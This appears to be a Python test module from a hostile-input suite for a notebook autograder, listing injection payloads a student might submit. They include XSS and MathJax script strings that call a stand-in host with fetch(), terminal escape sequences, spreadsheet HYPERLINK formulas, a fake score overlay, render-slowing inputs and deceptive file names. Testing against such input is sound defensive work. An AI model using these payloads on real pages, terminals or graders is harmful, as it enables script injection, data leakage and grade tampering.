"""Injection: what a student wrote is text for the instructor's browser, terminal and spreadsheet,
and nothing more.
"""

from __future__ import annotations

from itertools import pairwise

from tests.hostile.attack import WORTH, Attack, all_of, answering, before, own

# Cells with marks, in the labs that attacks are made of.
GRADED = ("check-inspect", "test-square", "partial")
# A page that ran it would have this title, and would have asked for this address.
PWNED = "pwned"
ADDRESS = "http://hostile.invalid/seen"

SCRIPT = f"document.title='{PWNED}';fetch('{ADDRESS}')"
RICH = f"""from IPython.display import HTML, SVG, IFrame, Image, Javascript, display

display(HTML("<script>{SCRIPT}</script><img src=x onerror=\\"{SCRIPT}\\">"))
display(Javascript("{SCRIPT}"))
display(SVG(data='<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'))
display(IFrame("{ADDRESS}", 10, 10))
display(Image(url="{ADDRESS}.png"))
display({{"text/latex": "\\\\href{{javascript:{SCRIPT}}}{{x}}", "text/markdown": "<script>{SCRIPT}</script>",
         "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}, "image/svg+xml": "<svg onload={SCRIPT}>",
         "image/png": "\\"><script>{SCRIPT}</script>", "text/plain": "<script>{SCRIPT}</script>"}}, raw=True)
print("<script>{SCRIPT}</script></pre></div><img src=x onerror={SCRIPT}>")
print("\\x1b]8;;{ADDRESS}\\x07link\\x1b]8;;\\x07")"""

MARKDOWN = [
    f"<script>{SCRIPT}</script>",
    f'<img src=x onerror="{SCRIPT}">',
    f'<svg onload="{SCRIPT}">',
    f"![seen]({ADDRESS}.png)",
    f"[click](javascript:{SCRIPT})",
    f"[a][b]\n\n[b]: javascript:{SCRIPT}",
    f"<iframe src={ADDRESS}></iframe>",
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$ $$\\unicode{{<img src=x onerror={SCRIPT}>}}$$",
    f"\\(\\style{{background: url({ADDRESS})}}{{x}}\\)",
    "$\\smash{\\begin{array}{c}\\text{Score: 3.0 / 3.0}\\\\x\\\\x\\\\x\\\\x\\end{array}}$",
    f"<math><maction actiontype='statusline#{ADDRESS}' xlink:href='javascript:{SCRIPT}'>x</maction></math>",
    f"<form action={ADDRESS}><button formaction='javascript:{SCRIPT}'>x</button></form>",
    f"<style>@import url({ADDRESS}.css);</style><link rel=stylesheet href={ADDRESS}.css><base href={ADDRESS}>",
    f"<meta http-equiv=refresh content='0;url={ADDRESS}'>",
    f"```html\n<script>{SCRIPT}</script>\n```\n`<script>{SCRIPT}</script>`",
    f"<{ADDRESS}> <javascript:{SCRIPT}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={SCRIPT}> | ![x]({ADDRESS}) |",
    "</script></textarea></title><!--",
    *(f"# {name}\n\n# {name}-comment\n\n# {name}_extra_credit" for name in GRADED),
]

# Clears a terminal, names its window, moves its cursor, answers back, turns the reading direction
# round.
ESCAPES = "\\x1b[2J\\x1b]0;" + PWNED + "\\x07\\x1b[31m\\x9b5n\\x08\\x7f\\u202e\\u2066\\u200f\\r\\n"

TERMINAL = f"""class Worst(ValueError):
    pass


Worst.__name__ = Worst.__qualname__ = "Bad{ESCAPES}"
print("{ESCAPES}")


def describe(model, directory=None):
    raise Worst("{ESCAPES}[bold red]markup[/] <b>")"""

CELL_ERROR = f"""Worst = type("Bad{ESCAPES}", (Exception,), {{}})
raise Worst("{ESCAPES}")"""

RESULT = f"""def describe(model, directory=None):
    text = "{ESCAPES}=HYPERLINK(\\"{ADDRESS}\\")<script>{SCRIPT}</script>"
    return {{"ir_version": text, "opset": text, "operators": {{text: 1}}, "parameters": text, "bytes": text}}"""

FORMULA = f"""def describe(model, directory=None):
    raise ValueError('=HYPERLINK("{ADDRESS}")')"""

PLAIN_ERROR = f"""def square(x):
    raise type("Bad{ESCAPES}", (Exception,), {{}})("{ESCAPES}<script>{SCRIPT}</script>")"""


def _markdown(notebook):
    for kind in ("markdown", "raw", "code"):
        notebook["cells"] += [
            own(source if kind != "code" else "# " + source.replace("\n", " "), kind)
            for source in MARKDOWN
        ]


def _slow(notebook):
    """What takes hours to show, by the rules of what colours code and of what sets formulas."""
    blanks, dots = " \n" * 100_000, "." * 100_000
    for source in (blanks, dots, "%%perl\n" + blanks, "%%html\n" + "<a " * 30_000):
        notebook["cells"].append(own(f"text = 1\n{source}"))
        notebook["cells"].append(own(source))
    for source in (blanks, "\\\\[" * 30_000, "\\\\(" * 30_000, "\\begin{a}" * 20_000, "[" * 50_000):
        notebook["cells"] += [own(source, "markdown"), own(source, "raw")]
    twice = "".join(
        f"\\newcommand\\{b}z{{{{\\{a}z}}{{\\{a}z}}}}" for a, b in pairwise("abcdefghijklmnopqr")
    )
    notebook["cells"] += [
        own(f"$\\newcommand\\az{{x}}{twice}\\rz{'x' * n}$", "markdown") for n in range(9)
    ]


def _attachments(notebook):
    notebook["cells"].append(
        own(
            "![a](attachment:a.svg)",
            "markdown",
            attachments={
                "a.svg": {"image/svg+xml": f"<svg onload={SCRIPT}>", "text/html": "<script>"}
            },
        )
    )


def _given(notebook):
    """Cells of the lab itself, edited, and their outputs."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = MARKDOWN[0]
        else:
            cell["outputs"] = [
                {"output_type": "display_data", "metadata": {}, "data": {"text/html": MARKDOWN[0]}}
            ]
    notebook["metadata"]["title"] = notebook["metadata"]["celltoolbar"] = MARKDOWN[0]
    notebook["metadata"]["language_info"] = {
        "name": "python",
        "mimetype": MARKDOWN[0],
        "pygments_lexer": "../../x",
    }


def _files(folder):
    for name in ("<script>alert(1)<x>", "\x1b[2J.txt", "=1+1.csv", "\u202etxt.exe"):
        (folder / name.replace("/", "")).write_text("x")


ATTACKS = [
    Attack(
        "rich-output", "injection", "inspect", "first_opset", WORTH, deed=before(RICH), exactly=True
    ),
    Attack("markdown", "injection", "inspect", "first_opset", WORTH, deed=_markdown, exactly=True),
    Attack(
        "attachments", "injection", "inspect", "first_opset", WORTH, deed=_attachments, exactly=True
    ),
    Attack("slow-to-show", "injection", "inspect", "first_opset", WORTH, deed=_slow, exactly=True),
    Attack("given-cells", "injection", "inspect", "first_opset", WORTH, deed=_given, exactly=True),
    Attack("terminal", "injection", "inspect", "stub", 0.0, deed=answering(TERMINAL)),
    Attack(
        "terminal-in-a-cell", "injection", "inspect", "first_opset", WORTH, deed=before(CELL_ERROR)
    ),
    Attack("result", "injection", "inspect", "stub", 0.0, deed=answering(RESULT)),
    Attack("formula", "injection", "inspect", "stub", 0.0, deed=answering(FORMULA)),
    Attack("file-names", "injection", "inspect", "first_opset", WORTH, write=_files, exactly=True),
    Attack("plain-rich-output", "injection", "first", "wrong", 0.0, deed=before(RICH)),
    Attack(
        "plain-error",
        "injection",
        "first",
        "stub",
        0.0,
        deed=all_of(answering(PLAIN_ERROR), _markdown),
    ),
]
